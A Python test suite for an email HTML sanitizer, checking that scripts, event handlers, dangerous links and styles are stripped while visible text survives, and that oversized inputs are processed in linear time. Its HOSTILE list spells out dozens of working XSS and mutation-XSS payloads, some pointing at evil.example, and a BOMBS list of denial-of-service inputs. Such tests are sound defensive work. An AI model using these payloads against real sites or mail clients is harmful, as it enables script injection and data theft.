"""What is left of a mail's HTML: nothing that runs, loads or moves, and all of the visible text."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from channels.email.html import blocked_images, html_text, sanitized

PNG = "data:image/png;base64,iVBORw0KGgo="
HARMLESS = re.compile(r"https?://[^/]|mailto:|tel:|data:image/(?:png|jpeg|gif|webp);base64,")
ACTIVE = frozenset(
    "script style iframe object embed applet form input button textarea select option svg math link meta base template "
    "noscript frame frameset video audio source portal dialog title xmp plaintext noembed noframes".split()
)
NAMES = ("id", "class", "srcset", "background", "action")
BAD_STYLE = re.compile(
    r"url|position|expression|import|@|\\|behavior|-moz|var\(|-\d|float|z-index|fixed", re.IGNORECASE
)


class Seen(HTMLParser):
    """Everything in a piece of HTML that could do something, as the standard library reads it."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.dangers: list[str] = []
        self.text = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.dangers += [tag] * (tag in ACTIVE or ":" in tag)
        for name, value in attrs:
            self.dangers += [name] * (
                name.startswith("on") or name in ("id", "class", "srcset", "background", "action")
            )
            is_address = name in ("href", "src")
            self.dangers += [f"{name}={value}"] * (is_address and not HARMLESS.match(value or ""))
            self.dangers += [f"{name}={value}"] * (name == "src" and not (value or "").startswith("data:image/"))
            self.dangers += [f"style={value}"] * (name == "style" and bool(BAD_STYLE.search(value or "")))

    def handle_comment(self, data: str) -> None:
        self.dangers.append("comment")

    def handle_data(self, data: str) -> None:
        self.text += data


HOSTILE = [
    "<script>alert(1)</script>VISIBLE",
    "<ScRiPt src=//evil.example/x.js></sCrIpT >VISIBLE",
    "<scr<script>ipt>alert(1)</scr</script>ipt>VISIBLE",
    "<img src=x onerror=alert(1)>VISIBLE",
    "<img src='x'onerror='alert(1)'>VISIBLE",
    "<img/src=x/onerror=alert(1)//>VISIBLE",
    "<img src=`x` onerror=alert(1)>VISIBLE",
    "<image src=x onerror=alert(1)>VISIBLE",
    "<body onload=alert(1)>VISIBLE</body>",
    "<svg onload=alert(1)>VISIBLE</svg>",
    "<svg><script>alert(1)</script><text>VISIBLE</text></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>VISIBLE</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /></svg>VISIBLE",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">VISIBLE",
    "<math><mi xlink:href='javascript:alert(1)'>VISIBLE</mi></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style>VISIBLE</table></mtext></math>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)>VISIBLE</annotation-xml></math>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">VISIBLE",
    "<a href='javascript:alert(1)'>VISIBLE</a>",
    "<a href='JaVa\tScRiPt:alert(1)'>VISIBLE</a>",
    "<a href='java&#10;script:alert(1)'>VISIBLE</a>",
    "<a href='&#x6A;avascript&colon;alert(1)'>VISIBLE</a>",
    "<a href='&#0000106avascript:alert(1)'>VISIBLE</a>",
    "<a href=' &#14; javascript:alert(1)'>VISIBLE</a>",
    "<a href='\u200bjavascript:alert(1)'>VISIBLE</a>",
    "<a href='vbscript:msgbox(1)'>VISIBLE</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>VISIBLE</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>VISIBLE</a>",
    "<a href='blob:https://x.example/1'>VISIBLE</a>",
    "<a href='file:///etc/passwd'>VISIBLE</a>",
    "<a href='/console/logout'>VISIBLE</a>",
    "<a href='?do=it'>VISIBLE</a>",
    "<a href='#top' name=x id=y>VISIBLE</a>",
    "<a href='https:evil.example'>VISIBLE</a>",
    "<a href='http:///evil.example'>VISIBLE</a>",
    "<img src='data:image/svg+xml;base64,PHN2Zz4='>VISIBLE",
    "<img src='data:text/html,<script>'>VISIBLE",
    "<img src='data:image/png;base64,\" onerror=alert(1)'>VISIBLE",
    "<img srcset='https://evil.example/x 1x' src='https://evil.example/y'>VISIBLE",
    "<img src=https://evil.example/x lowsrc=javascript:alert(1) dynsrc=x usemap=#m ismap>VISIBLE",
    "<table background='https://evil.example/x'><tr><td background=javascript:alert(1)>VISIBLE</table>",
    "<p style='background:url(https://evil.example/x)'>VISIBLE</p>",
    "<p style='background-image:u\\72l(//evil.example/x)'>VISIBLE</p>",
    "<p style='width:expression(alert(1))'>VISIBLE</p>",
    "<p style='-moz-binding:url(x);behavior:url(x)'>VISIBLE</p>",
    "<p style='position:fixed;top:0;left:0;width:9999px;z-index:9'>VISIBLE</p>",
    "<p style='margin-left:-9999px;text-indent:-9em'>VISIBLE</p>",
    "<p style='color:red;}@import \"//evil.example/x\";{'>VISIBLE</p>",
    "<p style='color:&#92;75rl(x);font-family:\"x&#92;27;position:fixed\"'>VISIBLE</p>",
    "<p style='color:/**/var(--x);float:left'>VISIBLE</p>",
    "<style>@import '//evil.example/x'; p{display:none}</style>VISIBLE",
    "<style><!--</style><img src=x onerror=alert(1)>--></style>VISIBLE",
    "<link rel=stylesheet href=//evil.example/x.css>VISIBLE",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>VISIBLE",
    "<base href='https://evil.example/'>VISIBLE<a href='x'>y</a>",
    "<form action='https://evil.example/'><input name=password><button>VISIBLE</button></form>",
    "<form><form action=//evil.example><isindex prompt=x>VISIBLE</form></form>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)></style></form>VISIBLE",
    "<button formaction=javascript:alert(1)>VISIBLE</button>",
    "<textarea autofocus onfocus=alert(1)>VISIBLE</textarea>",
    "<select><option>VISIBLE</option><script>alert(1)</script></select>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>VISIBLE",
    "<iframe src=javascript:alert(1)>no</iframe>VISIBLE",
    "<object data='javascript:alert(1)'>VISIBLE</object>",
    "<embed src='//evil.example/x.swf'>VISIBLE",
    "<video src=x onerror=alert(1)><source onerror=alert(1)>VISIBLE</video>",
    "<details open ontoggle=alert(1)>VISIBLE</details>",
    "<marquee onstart=alert(1)>VISIBLE</marquee>",
    "<template><script>alert(1)</script></template>VISIBLE",
    "<xmp><img src=x onerror=alert(1)></xmp>VISIBLE",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->VISIBLE",
    "<!-- --!><img src=x onerror=alert(1)>-->VISIBLE",
    "<!--><img src=x onerror=alert(1)>-->VISIBLE",
    "<![CDATA[<img src=x onerror=alert(1)>]]>VISIBLE",
    "<?xml-stylesheet href='javascript:alert(1)'?>VISIBLE",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>VISIBLE</x:script>",
    "<div id=csrf class=modal name=x data-blocked-src='javascript:alert(1)' contenteditable>VISIBLE</div>",
    "<p title='\"><img src=x onerror=alert(1)>'>VISIBLE</p>",
    "<p title='<img data-blocked-src=\"x\"'>VISIBLE</p>",
    "<p title=\"\ue001script\ue000\">\ue001script>VISIBLE</p>",
    "&lt;script&gt;VISIBLE&lt;/script&gt;",
    "<a href=\"https://x.example/\"\" onclick=alert(1)>VISIBLE</a>",
    "<a href=\"https://x.example/>VISIBLE",
    "<<b>VISIBLE<//b>",
    "<b <i>VISIBLE</i>",
    "<table><td>VISIBLE<table><p></td></td></table>",
    "<p>" * 300 + "VISIBLE",
    "<table><tr><td>" * 300 + "VISIBLE",
    "<a href='https://x.example/'><table><a href='javascript:1'>VISIBLE",
    "VISIBLE<script",
    "VISIBLE<style>p{}",
]  # fmt: skip


@pytest.mark.parametrize("html", HOSTILE)
def test_nothing_executable_stays_and_no_visible_text_goes(html: str) -> None:
    seen = Seen(sanitized(html))

    assert seen.dangers == []
    assert "VISIBLE" in seen.text
    assert "VISIBLE" in html_text(html)


@pytest.mark.parametrize("html", HOSTILE)
def test_sanitised_html_does_not_change_when_it_is_sanitised_again(html: str) -> None:
    once = sanitized(html)

    assert Seen(sanitized(once)).dangers == []
    assert Seen(sanitized(once)).text == Seen(once).text


PIECES = [
    *"<p>|</p>|<b>|</b>|<a href='javascript:x'>|</a>|<table>|</table>|<tr>|<td>|</td>|<svg>|</svg>|<math>".split("|"),
    *"<style>|</style>|<script>|</script>|<!--|-->|<img src=x onerror=y>|\"|'|>|<|=|&lt;|&#|text|<title>".split("|"),
    *"</title>|<ul>|<li>|<pre>|<xmp>|</xmp>|<p title='|<mtext>".split("|"),
]


@given(st.lists(st.sampled_from(PIECES), max_size=30))
def test_no_mixture_of_tags_keeps_anything_executable(pieces: list[str]) -> None:
    html = "".join(pieces)

    assert Seen(sanitized(html)).dangers == []
    html_text(html)


@given(st.text(max_size=500))
def test_any_text_is_sanitised_and_read_without_an_error(html: str) -> None:
    assert Seen(sanitized(html)).dangers == []
    html_text(html)


def test_remote_images_wait_until_somebody_asks_for_them() -> None:
    html = sanitized("<img src='https://t.example/p.gif?a=1&b=2' alt=logo><img src='//t.example/q'><img src=cid:a%40b>")

    assert 'data-blocked-src="https://t.example/p.gif?a=1&amp;b=2"' in html
    assert 'data-blocked-src="https://t.example/q"' in html
    assert 'data-cid="a@b"' in html
    assert " src=" not in html
    assert blocked_images(html) == 2


def test_text_that_looks_like_a_blocked_image_is_not_counted() -> None:
    assert blocked_images(sanitized('&lt;img data-blocked-src="x"&gt; <p title=\'<img data-blocked-src="\'>x')) == 0


def test_a_small_picture_in_the_address_itself_stays_and_a_big_one_goes() -> None:
    assert f'src="{PNG}"' in sanitized(f"<img src='{PNG}'>")
    assert "src=" not in sanitized("<img src='data:image/png;base64," + "A" * 200_000 + "'>")


def test_links_open_elsewhere_and_tell_nothing() -> None:
    html = sanitized("<a href='https://x.example/a?b=1&amp;c=2' target=_top rel=opener>x</a>")

    assert 'href="https://x.example/a?b=1&amp;c=2"' in html
    assert 'rel="noopener noreferrer nofollow"' in html
    assert 'target="_blank"' in html
    assert "_top" not in html


def test_a_link_without_a_scheme_goes_to_its_host_and_nowhere_else() -> None:
    assert 'href="https://x.example/a"' in sanitized("<a href='//x.example/a'>x</a>")
    assert 'href="https://x.example/a"' in sanitized("<a href='\\\\x.example/a'>x</a>")


def test_harmless_styles_stay() -> None:
    style = "color: #ff0000; font-weight: bold; border: 1px solid #ccc; padding: 4px; font-family: 'Arial', serif"

    assert f'style="{style}"' in sanitized(f'<p style="{style}">x</p>')


def test_tables_lists_and_headings_keep_their_shape() -> None:
    html = '<h1>a</h1><table><tbody><tr><td colspan="2">b</td></tr></tbody></table><ol start="3"><li>c</li></ol>'

    assert sanitized(html) == html


BOMBS = [
    "<div>" * 100_000,
    "<b>" * 25_000,
    "<p><b>" * 25_000,
    "<table><td>" * 12_000,
    "</div>" * 50_000,
    "<" * 125_000,
    "<!--" * 50_000,
    "<a " * 75_000,
    "<title>" * 25_000,
    '<a b=">"' * 25_000,
    "<a b='\">" * 25_000,
    "&#" * 125_000,
    "&" * 1_000_000,
    "&#" + "9" * 25_000 + ";",
    "<a " + "b=" * 125_000 + ">",
    "<ul><li>x" * 12_000,
    "<pre>" + "\n" * 1_000_000,
    "".join(f"<b id={n}>" for n in range(20_000)) + "<p>x" * 10_000,
    "<span>" * 10_000 + "<div>" * 10_000,
    "<blockquote type=cite>x<br>" * 12_000,
    "<p style='" + "a:b;" * 50_000 + "'>x",
    "<svg><style><p>" * 12_000,
    "<a href=http:x>y" * 25_000,
    "<p hidden>x" * 25_000,
    "x\r" * 125_000,
    "<a href='https://a.example'>x " * 10_000,
]


@pytest.mark.timeout(60)
@pytest.mark.parametrize("html", BOMBS, ids=range(len(BOMBS)))
def test_hostile_html_is_read_in_linear_time(html: str) -> None:
    """Not timed: what is quadratic here takes minutes (nh3 alone needs two for the first) and meets the limit."""
    assert len(sanitized(html)) < 40 * len(html) + 1000
    assert len(html_text(html)) <= 10 * len(html)


def test_text_behind_more_tags_than_are_read_is_not_lost() -> None:
    html = "<p>x</p>" * 60_000 + "<b>the end</b>"

    assert html_text(html).endswith("the end")
    assert "the end" in sanitized(html)
